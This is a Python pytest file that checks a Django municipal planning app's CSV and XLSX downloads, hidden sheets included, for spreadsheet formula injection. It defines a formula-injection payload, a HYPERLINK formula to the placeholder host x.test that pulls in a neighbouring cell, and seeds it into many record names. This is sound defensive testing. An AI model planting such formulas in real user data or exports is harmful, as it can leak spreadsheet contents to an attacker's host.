"""No download the product offers carries a formula, whatever names people gave things.

Every name a member can type and an export writes — a tag, a theme, a department, a status, a
criterion (a header in the ranking), a task, a round, an update, a person — is set to a formula
here; then every header and cell of every CSV and XLSX download, hidden sheets included, is
checked.
"""

import csv
import io
from datetime import date, timedelta
from http import HTTPStatus

import pytest
from django.utils import timezone
from openpyxl import load_workbook

from daadkracht.access.context import tenant_scope
from daadkracht.common.exporting import FORMULA_START
from daadkracht.plans.models import ActionStatus, Tag, Theme
from daadkracht.plans.services.updates import timeline_update_post
from daadkracht.prioritisation.models import Criterion
from daadkracht.prioritisation.services.rounds import scoring_round_create
from daadkracht.prioritisation.services.scores import action_scores_save
from daadkracht.stakeholders.models import Contact, Organisation
from daadkracht.tenancy.models import Department
from daadkracht.testing.factories import (
    SurveyRoundFactory,
    TaskFactory,
    as_platform,
    survey_answers_give,
)

FORMULA = '=HYPERLINK("http://x.test/"&B2;"Klik")'


@pytest.fixture
@as_platform
def sly(world):
    """Municipality A with a formula for the name of everything its downloads show."""
    action = world.action_a
    Department.unscoped.filter(pk=world.department_a.pk).update(name=FORMULA)
    ActionStatus.unscoped.filter(pk=action.status_id).update(name=FORMULA)
    criterion = Criterion.unscoped.filter(plan=world.plan_a).order_by("position").first()
    Criterion.unscoped.filter(pk=criterion.pk).update(name=FORMULA)
    theme = Theme.unscoped.create(municipality=world.a, plan=world.plan_a, name=FORMULA)
    tag = Tag.unscoped.create(municipality=world.a, name=FORMULA)
    action.themes.add(theme)
    action.tags.add(tag)
    action.deadline = timezone.localdate() - timedelta(days=30)
    action.co2_reduction = 100
    action.budget_planned = 25000
    action.save()
    TaskFactory.create(action=action, title=FORMULA, due_date=date(2020, 1, 1))
    world.users["coordinator"].full_name = FORMULA
    world.users["coordinator"].save()
    with tenant_scope(world.a):
        criterion.refresh_from_db()
        action_scores_save(actor=None, action=action, scores={criterion.pk: (4, FORMULA)})
        scoring_round = scoring_round_create(
            actor=world.users["coordinator"],
            plan=world.plan_a,
            title=FORMULA,
            actions=[action],
            criteria=[criterion],
        )
        timeline_update_post(
            actor=world.users["coordinator"],
            action=action,
            text=FORMULA,
            new_status=ActionStatus.objects.exclude(pk=action.status_id).first(),
        )
    organisation = Organisation.unscoped.create(
        municipality=world.a, name=FORMULA, kind="other", website="https://x.test"
    )
    organisation.themes.add(theme)
    Contact.unscoped.create(
        municipality=world.a, full_name=FORMULA, organisation=organisation, function=FORMULA
    )
    world.round_pk = scoring_round.pk
    survey_round = SurveyRoundFactory.create(
        municipality=world.a, departments=[world.department_a, world.other_department_a]
    )
    survey_answers_give(survey_round, world.other_department_a, {world.department_a: 3})
    world.survey_pk = survey_round.pk
    return world


def downloads(world) -> dict[str, str]:
    """Every download of the product, by name, as the URL without its format."""
    action = world.action_a
    return {
        "action list": "/alfa/plan/acties/export/?format=",
        "ranking": "/alfa/plan/prioriteiten/?export=",
        "cost curve": "/alfa/plan/prioriteiten/kostencurve/?export=",
        "rounds": "/alfa/plan/prioriteiten/rondes/?export=",
        "round results": f"/alfa/plan/prioriteiten/rondes/{world.round_pk}/resultaten/?export=",
        "timeline": f"/alfa/plan/acties/{action.pk}/?export=",
        "department dashboard": f"/alfa/dashboard/dienst/{world.department_a.pk}/?export=",
        "attention": "/alfa/dashboard/aandacht/?export=",
        "overdue tasks": "/alfa/dashboard/taken-over-tijd/?export=",
        "departments": "/alfa/diensten/?export=",
        "members": "/alfa/leden/?export=",
        "diagnosis": f"/alfa/samenwerking/rondes/{world.survey_pk}/resultaten/?export=",
        "climate contacts": "/alfa/traject/samenwerkingsmodel/?export=",
        "organisations": "/alfa/netwerk/?export=",
        "contact persons": "/alfa/netwerk/contactpersonen/?export=",
    }


def csv_cells(content: bytes) -> list[str]:
    rows = csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";")
    return [value for row in rows for value in row]


def xlsx_cells(content: bytes) -> list[object]:
    workbook = load_workbook(io.BytesIO(content))
    return [
        c.value
        for sheet in workbook.worksheets  # hidden sheets too
        for row in sheet.iter_rows()
        for c in row
        if c.value is not None
    ]


def assert_no_formula(cells: list[object], where: str) -> None:
    texts = [value for value in cells if isinstance(value, str)]
    assert any("HYPERLINK" in text for text in texts), f"{where}: the formula was not exported"
    formulas = [text for text in texts if text.startswith(FORMULA_START)]
    assert formulas == [], where


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_no_download_carries_a_formula(sly, fmt):
    coordinator = sly.client_for("coordinator")
    for name, url in downloads(sly).items():
        response = coordinator.get(url + fmt)
        assert response.status_code == HTTPStatus.OK, name
        content = response.getvalue()
        cells = csv_cells(content) if fmt == "csv" else xlsx_cells(content)
        assert_no_formula(cells, f"{name} ({fmt})")


def test_the_ranking_names_its_criteria_in_guarded_headers(sly):
    response = sly.client_for("coordinator").get("/alfa/plan/prioriteiten/?export=csv")

    header = next(csv.reader(io.StringIO(response.getvalue().decode("utf-8-sig")), delimiter=";"))
    assert any(h.startswith("'" + FORMULA) for h in header)


def test_the_import_template_with_its_hidden_lists_carries_no_formula(sly):
    response = sly.client_for("coordinator").get("/alfa/plan/acties/import/sjabloon/")

    assert response.status_code == HTTPStatus.OK
    content = response.getvalue()
    workbook = load_workbook(io.BytesIO(content))
    assert workbook["Keuzelijsten"].sheet_state == "hidden"
    lists = [c.value for row in workbook["Keuzelijsten"].iter_rows() for c in row if c.value]
    assert lists.count("'" + FORMULA) == 2, "the department and status dropdowns"
    assert_no_formula(xlsx_cells(content), "import template")
